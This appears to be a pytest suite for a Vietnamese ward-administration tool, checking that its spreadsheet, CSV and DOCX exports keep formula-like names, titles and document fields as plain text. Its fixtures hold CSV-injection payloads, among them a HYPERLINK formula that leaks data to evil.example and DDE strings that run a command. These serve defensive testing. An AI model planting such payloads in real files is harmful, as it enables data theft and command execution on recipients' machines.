"""Exports and output that stay what they show: a name, a title, a file name, an explanation or a
document number that looks like a formula is text in every spreadsheet and CSV the engine writes;
control characters never break a DOCX or an XLSX; rich markup in a name is printed as typed."""

from __future__ import annotations

import csv
import json
import zipfile
from pathlib import Path
from xml.etree import ElementTree

import pytest

from cchc.replay import minimal_pdf
from plans import HERE, PLAN_2020

pytestmark = pytest.mark.simulation  # replays 2020 with --now

HUNG = "hung.nv@phuhuu.gov.vn"  # chairman
NHUNG = "nhung.pth@phuhuu.gov.vn"  # CCHC officer
SON = "son.dt@phuhuu.gov.vn"  # office: supports II.4.1
AT = ("--year", "2020", "--now", "2021-01-05T08:00")

# what an attacker (or a clumsy paste) puts where the engine later writes a cell
HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm vào đây")'
DDE = "=cmd|' /C calc'!A0"
NAMES = {
    "Nguyễn Văn Hùng": "Phạm [/b] Văn C",  # rich markup
    "Trần Thị Mai": "[tạm nghỉ] Trần Thị Mai",  # looks like a style tag
    "Bùi Thị Ngọc Ánh": HYPERLINK,
    "Phạm Thị Hồng Nhung": "+Phạm Thị Hồng Nhung",
    "Đỗ Thanh Sơn": "@Đỗ Thanh Sơn",
    "Võ Minh Tâm": "-2+3+cmd|' /C calc'!A0",
    "Trần Văn Phúc": "＝HYPERLINK(1)",  # full width: spreadsheets read it as '='
}
TASK_TITLE = "=1+1 Kiện toàn tổ chức bộ máy"
ROLE_TITLE = "@SUM(1,1) Chủ tịch UBND phường"
DANGEROUS = ("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠")


@pytest.fixture
def ward(cli, tmp_path: Path):  # type: ignore[no-untyped-def]
    """The demo ward, its plan and roster poisoned with formulas and markup."""
    plan = tmp_path / "plan.yaml"
    text = PLAN_2020.read_text(encoding="utf-8")
    title = "Tập trung thực hiện tốt công tác về kiện toàn, sắp xếp tinh gọn tổ chức, bộ máy trong nội bộ cơ quan"
    assert title in text and '"Chủ tịch UBND phường"' in text
    text = text.replace(f'"{title}"', json.dumps(TASK_TITLE, ensure_ascii=False))
    text = text.replace('"Chủ tịch UBND phường"', json.dumps(ROLE_TITLE, ensure_ascii=False), 1)
    plan.write_text(text, encoding="utf-8")
    with (HERE / "demo-roster.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.reader(handle))
    for row in rows[1:]:
        row[0] = NAMES.get(row[0], row[0])
    roster = tmp_path / "roster.csv"
    with roster.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle).writerows(rows)
    code, _, err = cli("plan", "load", str(plan))
    assert code == 0, err
    code, _, err = cli("officer", "import", str(roster))
    assert code == 0, err
    assert cli("schedule", "--now", "2020-01-01T06:00")[0] == 0
    return cli


def sheet_cells(path: Path) -> list[object]:
    """Every cell of every sheet, after checking none of them is a formula."""
    from openpyxl import load_workbook

    values: list[object] = []
    for sheet in load_workbook(path).worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                values.append(cell.value)
    return values


# --- rich markup in names ---------------------------------------------------------------------


def test_names_with_markup_are_printed_as_typed(ward) -> None:  # type: ignore[no-untyped-def]
    code, out, err = ward("officer", "list")
    assert (code, err) == (0, "")
    for name in ("Phạm [/b] Văn C", "[tạm nghỉ] Trần Thị Mai", HYPERLINK):
        assert name in out, name
    code, out, err = ward("who", "II.3.1", "--on", "15/07/2020")
    assert (code, err) == (0, "")
    assert "[tạm nghỉ] Trần Thị Mai" in out  # the vice-chairman for area 3 approves II.3.1
    code, out, err = ward("who", "II.4.1", "--on", "15/07/2020")
    assert (code, err) == (0, "")
    assert "Phạm [/b] Văn C" in out and TASK_TITLE in out
    code, out, err = ward("tasks", "--officer", HUNG)
    assert (code, err) == (0, ""), err
    assert TASK_TITLE in out


# --- spreadsheets -----------------------------------------------------------------------------


def test_the_matrix_sheet_keeps_formulas_as_text(ward, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    xlsx = tmp_path / "matrix.xlsx"
    code, _, err = ward("matrix", "--xlsx", str(xlsx))
    assert code == 0, err
    values = sheet_cells(xlsx)
    assert TASK_TITLE in values and ROLE_TITLE in values


def test_the_completeness_sheet_keeps_formulas_as_text(ward, tmp_path: Path) -> None:  # type: ignore[no-untyped-def]
    xlsx = tmp_path / "completeness.xlsx"
    code, out, err = ward(
        "completeness", "--now", "2020-12-31T08:00", "--by", "officer", "--xlsx", str(xlsx)
    )
    assert code == 0, err
    values = sheet_cells(xlsx)
    for name in ("Phạm [/b] Văn C", "+Phạm Thị Hồng Nhung", "@Đỗ Thanh Sơn", HYPERLINK):
        assert name in values, name
    assert TASK_TITLE in values
    assert "[tạm nghỉ] Trần Thị Mai" in out or "Phạm [/b] Văn C" in out  # and on screen


def test_the_submission_pack_keeps_formulas_as_text_and_its_report_opens(  # type: ignore[no-untyped-def]
    ward, tmp_path: Path
) -> None:
    document = tmp_path / "=HYPERLINK(1).pdf"
    document.write_bytes(minimal_pdf("Quyet dinh kien toan"))
    code, out, err = ward(
        "evidence", "add", str(document), "--task", "II.4.1", "--period", "2020",
        "--requirement", "1", "--doc-number", "-12/QĐ-UBND", "--issuer", "@UBND phường",
        "--summary", DDE, "--as", SON, "--now", "2020-06-01T09:00", "--json",
    )  # fmt: skip
    assert code == 0, err
    explanation = "+Quy chế làm việc\x01 ban hành\x0b tháng 6\x1f"
    code, _, err = ward("par", "explain", "4.1.1", *AT, "--text", explanation, "--as", NHUNG)
    assert code == 0, err
    code, _, err = ward("par", "explain", "4.1.2", *AT, "--text", DDE, "--as", NHUNG)
    assert code == 0, err
    out_dir = tmp_path / "pack"
    code, out, err = ward("par", "export", *AT, "--out", str(out_dir), "--json")
    assert code == 0, err
    summary = json.loads(out)

    values = [v for v in sheet_cells(Path(summary["sheet"])) if isinstance(v, str)]
    assert DDE in values  # 4.1.2's note
    # the document column cites the document by its number, issuer and summary, kept as text
    cited = f"Quyết định số -12/QĐ-UBND của @UBND phường về {DDE}"
    assert any(v.startswith(cited) for v in values)  # (marked: not accepted yet)
    note = next(v for v in values if v.startswith("+Quy chế"))
    assert note == "+Quy chế làm việc ban hành tháng 6"  # control characters dropped
    assert any(isinstance(v, int | float) for v in sheet_cells(Path(summary["sheet"])))

    with (out_dir / "manifest.csv").open(encoding="utf-8-sig", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert rows
    for row in rows:
        for key, value in row.items():
            assert not value.startswith(DANGEROUS), (key, value)
    row = rows[0]
    assert row["doc_number"] == "'-12/QĐ-UBND" and row["issuer"] == "'@UBND phường"
    assert row["summary"] == "'" + DDE and row["size"].isdigit()
    assert row["path"].endswith("=HYPERLINK(1).pdf")  # a path does not start with '='
    manifest = json.loads((out_dir / "manifest.json").read_text("utf-8"))
    assert manifest[0]["doc_number"] == "-12/QĐ-UBND"  # JSON is data: kept as typed

    with zipfile.ZipFile(summary["report"]) as archive:
        root = ElementTree.fromstring(archive.read("word/document.xml"))
    words = "".join(root.itertext())
    assert "Quy chế làm việc ban hành" in words and DDE in words
